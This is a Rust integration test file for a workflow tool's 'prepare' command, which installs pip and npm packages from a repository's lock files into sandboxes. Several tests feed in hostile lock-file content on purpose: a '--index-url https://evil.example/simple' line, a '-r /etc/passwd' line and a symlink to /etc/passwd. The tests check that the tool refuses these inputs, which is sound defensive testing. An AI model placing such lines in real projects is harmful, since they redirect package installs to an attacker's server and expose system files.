//! Packages of a repository: `graphrun prepare`, and runs whose sandboxes have `dependencies`. These tests need git, and
//! Python and node with their installers.

use std::{fs, path::PathBuf, process::Stdio};

use serde_json::{Value, json};

use crate::{
    cli::{
        folders::done,
        program::{Ended, Place, Running},
    },
    support::{git::git, registry::Registry},
};

/// A workflow whose commands use the packages of a repository, also after an agent has changed the lock file.
const WORKFLOW: &str = r#"graphrun: 1
name: prepared
state:
  repo_path: string
  ready: { type: bool, default: false }
  said: string
  stepped: string
input: repo_path
output: [said, stepped]
folders: { repo: { from: repo_path, git: true } }
sandboxes: { box: { dependencies: { folder: repo, pip: requirements.txt, npm: web/package-lock.json } } }
start: change
nodes:
  change:
    write_files: { folder: repo, files: "[{path: 'requirements.txt', content: 'greeter==9.0'}]" }
    then: keep
  keep: { commit: { folder: repo, message: "'Change'" }, then: wait }
  wait: { ask: "Continue?", writes: ready, then: greet }
  greet:
    run: [python3, -c, "import greeter; print(greeter.greet('you'))"]
    in: box
    folder: repo
    writes: { said: stdout }
    then: step
  step:
    run: [node, -e, "console.log(require('left-step')('xyz'))"]
    in: box
    folder: repo
    writes: { stepped: stdout }
    then: end
"#;

/// A repository with lock files, and a workflow that works on it.
struct Home {
    place: Place,
    registry: Registry,
    /// Removed at the end: root has one cache.
    locations: Vec<PathBuf>,
}

impl Home {
    fn new() -> Self {
        let place = Place::new();
        let registry = Registry::start();
        let home = Self { place, registry, locations: Vec::new() };
        fs::write(home.place.path("w.yaml"), WORKFLOW).unwrap();
        fs::create_dir_all(home.place.path("repo/web")).unwrap();
        git(&home.place.path("repo"), &["init", "--quiet"]);
        let (lock, manifest) = home.registry.npm_files();
        home.write("web/package-lock.json", &lock);
        home.write("web/package.json", &manifest);
        home.lock(
            &(home.registry.pinned("greeter", "1.0") + &home.registry.pinned("shouter", "2.0")),
        );
        home
    }

    fn write(&self, path: &str, text: &str) {
        fs::write(self.place.path("repo").join(path), text).unwrap();
    }

    /// Commits requirements.
    fn lock(&self, requirements: &str) {
        self.write("requirements.txt", requirements);
        git(&self.place.path("repo"), &["add", "--all"]);
        git(&self.place.path("repo"), &["commit", "--quiet", "--message", "lock"]);
    }

    fn command(&self, arguments: &[&str]) -> std::process::Command {
        let mut command = self.place.command(arguments);
        command.envs(self.registry.variables());
        // Only root has another cache, which all users can read.
        command.env("XDG_CACHE_HOME", self.place.path(".cache"));
        command
    }

    fn run(&self, arguments: &[&str]) -> Ended {
        Ended::of(&mut self.command(arguments))
    }

    fn execute(&self, more: &[&str]) -> Ended {
        let base = ["execute", "w.yaml", "-i", "repo_path=repo", "--output", "json"];
        self.run(&[&base[..], more].concat())
    }

    fn prepare_arguments(host: &str) -> [&str; 8] {
        [
            "prepare",
            "w.yaml",
            "-i",
            "repo_path=repo",
            "--allow-network-private",
            host,
            "--output",
            "json",
        ]
    }

    /// Installs the packages, and returns the rows of the output.
    fn prepare(&mut self) -> Value {
        let ended = self.run(&Self::prepare_arguments(&self.registry.host()));
        assert_eq!(ended.code, 0, "{ended}");
        let rows = ended.json();
        let locations =
            rows.as_array().unwrap().iter().map(|it| it["location"].as_str().unwrap().into());
        self.locations.extend(locations);
        rows
    }

    fn remove_packages(&mut self) {
        for location in self.locations.drain(..) {
            let _ = fs::remove_dir_all(&location);
            let _ = fs::remove_file(location.with_extension("lock"));
        }
    }
}

impl Drop for Home {
    fn drop(&mut self) {
        self.remove_packages();
    }
}

fn resume(home: &Home, paused: &Ended, more: &[&str]) -> Ended {
    assert_eq!(paused.code, 3, "{paused}");
    let run = paused.json()["name"].as_str().unwrap().to_owned();
    let base = ["resume", &run, "--answer", "wait=true", "--output", "json"];
    home.run(&[&base[..], more].concat())
}

#[test]
fn prepared_packages_need_no_network_and_follow_the_commit() {
    let mut home = Home::new();
    // Not committed, so no lock file of a run.
    home.write("requirements.txt", "-r /etc/passwd\n");
    let rows = home.prepare();
    let commit = git(&home.place.path("repo"), &["rev-parse", "HEAD"]);
    let of = |at: usize| {
        let mut row = rows[at].clone();
        row.as_object_mut().unwrap().remove("location");
        row
    };
    let expected = |path: &str, installer: &str, packages: u64| {
        json!({
            "folder": "repo", "path": path, "commit": commit, "installer": installer, "packages": packages, "new": true,
        })
    };
    assert_eq!(of(0), expected("requirements.txt", "pip", 2));
    assert_eq!(of(1), expected("web/package-lock.json", "npm", 1));
    let again = home.prepare();
    assert_eq!((&again[0]["new"], &again[0]["location"]), (&json!(false), &rows[0]["location"]));

    let asked = home.registry.requests().len();
    let paused = home.execute(&[]);
    let state = done(&resume(&home, &paused, &[]));
    assert_eq!((&state["said"], &state["stepped"]), (&json!("HELLO YOU\n"), &json!("yz\n")));
    assert_eq!(home.registry.requests().len(), asked, "a run installs nothing");
}

#[test]
fn missing_packages_need_the_operator() {
    let mut home = Home::new();
    let host = home.registry.host();
    let refused = home.execute(&[]);
    assert_eq!((refused.code, refused.stdout.as_str()), (5, ""), "{refused}");
    assert_eq!(home.run(&["runs", "list", "--output", "json"]).json(), json!([]));
    let said = refused.stderr.replace(&host, "localhost:PORT");
    insta::assert_snapshot!(said);
    assert_eq!(home.registry.requests(), [""; 0]);

    let allowed = ["--allow-network-private", &host];
    let paused = home.execute(&allowed);
    assert!(paused.stderr.contains("pip installs 2 packages of `requirements.txt`"), "{paused}");
    home.prepare();
    home.remove_packages();
    // The packages have been removed meanwhile.
    let refused = resume(&home, &paused, &[]);
    assert_eq!(refused.code, 5, "{refused}");
    assert!(refused.stderr.contains(&format!("`--allow-network {host}`")), "{refused}");
    let state = done(&resume(&home, &paused, &allowed));
    assert_eq!(state["said"], "HELLO YOU\n");
    home.prepare();
}

#[test]
fn a_hostile_lock_file_is_refused_with_its_line() {
    let home = Home::new();
    home.lock("shouter==2.0\n--index-url https://evil.example/simple\n");
    for ended in [
        home.run(&Home::prepare_arguments("localhost")),
        home.execute(&["--allow-network-private", "localhost"]),
    ] {
        assert_eq!(ended.code, 5, "{ended}");
        let expected = "line 2: `--index-url https://evil.example/simple` is an option";
        assert!(ended.stderr.replace("\n  ", " ").contains(expected), "{ended}");
        assert!(
            ended.stderr.contains("`requirements.txt` cannot be used as a lock file"),
            "{ended}"
        );
    }
    fs::remove_file(home.place.path("repo/requirements.txt")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", home.place.path("repo/requirements.txt")).unwrap();
    git(&home.place.path("repo"), &["commit", "--quiet", "--all", "--message", "link"]);
    let ended = home.run(&Home::prepare_arguments("localhost"));
    assert!(ended.stderr.contains("it is no regular file"), "{ended}");
    assert_eq!(home.registry.requests(), [""; 0]);
}

#[test]
fn a_killed_installation_begins_again() {
    let mut home = Home::new();
    home.lock(&home.registry.pinned("slow", "1.0"));
    let host = home.registry.host();
    let mut command = home.command(&Home::prepare_arguments(&host));
    command.stdin(Stdio::null());
    let running = Running::of(command);
    home.registry.wait_for("/simple/slow/");
    running.signal(nix::sys::signal::Signal::SIGKILL);
    drop(running);
    let rows = home.prepare();
    assert_eq!(rows[0]["new"], true);
    let location = PathBuf::from(rows[0]["location"].as_str().unwrap());
    assert!(location.join("slow.py").is_file());
    let key = location.file_name().unwrap().to_str().unwrap().to_owned();
    let beside = fs::read_dir(location.parent().unwrap()).unwrap();
    let names = beside.map(|it| it.unwrap().file_name().into_string().unwrap());
    let mut names: Vec<String> = names.filter(|it| it.starts_with(&key)).collect();
    names.sort();
    assert_eq!(names, [key.clone(), format!("{key}.lock")]);
}

/// The cache of root is that of this machine, so the test removes nothing.
#[test]
fn prune_removes_only_what_no_run_has_used_for_days() {
    let place = Place::new();
    let prune = |arguments: &[&str]| {
        let mut command = place.command([&["prepare"], arguments].concat());
        Ended::of(command.env("XDG_CACHE_HOME", place.path(".cache")))
    };
    let none = prune(&["--prune", "36500d", "--output", "json"]);
    assert_eq!((none.code, none.json()), (0, json!([])), "{none}");
    assert!(none.stderr.contains("removed 0 folders of 0 MiB from "), "{none}");
    let short = prune(&["--prune", "23h"]);
    assert!(short.code == 2 && short.stderr.contains("a day or more"), "{short}");
    let both = prune(&["w.yaml", "--prune", "30d"]);
    assert!(both.code == 2 && both.stderr.contains("cannot be used with"), "{both}");
    let neither = prune(&[]);
    assert!(neither.code == 2 && neither.stderr.contains("WORKFLOW.yaml"), "{neither}");
}

const PYTHON: &str = r#"graphrun: 1
name: greet
state: { first: { type: int, default: 0 }, said: string }
output: said
sandboxes: { box: { python: { requirements: [greeter==1.0] } } }
start: first
nodes:
  first: { set: { first: 1 }, then: greet }
  greet:
    run: [python3, -c, "import greeter; print(greeter.greet('you'))"]
    in: box
    writes: { said: stdout }
    then: end
"#;

#[test]
fn python_packages_are_installed_before_the_first_step() {
    let mut home = Home::new();
    let authority = home.registry.variables().into_iter().find(|it| it.0 == "SSL_CERT_FILE");
    let authority = authority.unwrap().1;
    // Here pip works outside of a sandbox, with the settings of the operator.
    let run = |home: &Home, arguments: &[&str]| {
        Ended::of(home.command(arguments).env("PIP_CERT", &authority))
    };
    let write = |text: &str| fs::write(home.place.path("w.yaml"), text).unwrap();
    write(&PYTHON.replace("greeter==1.0", "missing-greeter==1.0"));
    let execute = ["execute", "w.yaml", "--output", "json"];
    let refused = run(&home, &execute);
    assert_eq!((refused.code, refused.stdout.as_str()), (5, ""), "{refused}");
    let begin = "error: the packages of a sandbox are not installed: missing-greeter==1.0\n";
    assert!(refused.stderr.contains(begin), "{refused}");
    assert!(refused.stderr.contains("help: check the names"), "{refused}");
    assert_eq!(home.run(&["runs", "list", "--output", "json"]).json(), json!([]));

    write(PYTHON);
    let prepare = ["prepare", "w.yaml", "--output", "json"];
    let mut row = run(&home, &prepare).json()[0].clone();
    let location = row.as_object_mut().unwrap().remove("location").unwrap();
    home.locations.push(location.as_str().unwrap().into());
    let expected =
        json!({"requirements": ["greeter==1.0"], "installer": "pip", "packages": 1, "new": true});
    assert_eq!(row, expected);
    assert_eq!(run(&home, &prepare).json()[0]["new"], false);
    let asked = home.registry.requests().len();
    assert_eq!(done(&run(&home, &execute))["said"], "HELLO YOU\n");
    assert_eq!(home.registry.requests().len(), asked, "a run installs nothing");

    home.remove_packages();
    let ended = run(&home, &execute);
    assert!(ended.stderr.starts_with("pip installs greeter==1.0\n"), "{ended}");
    done(&ended);
    let row = run(&home, &prepare).json()[0].clone();
    home.locations.push(row["location"].as_str().unwrap().into());
}
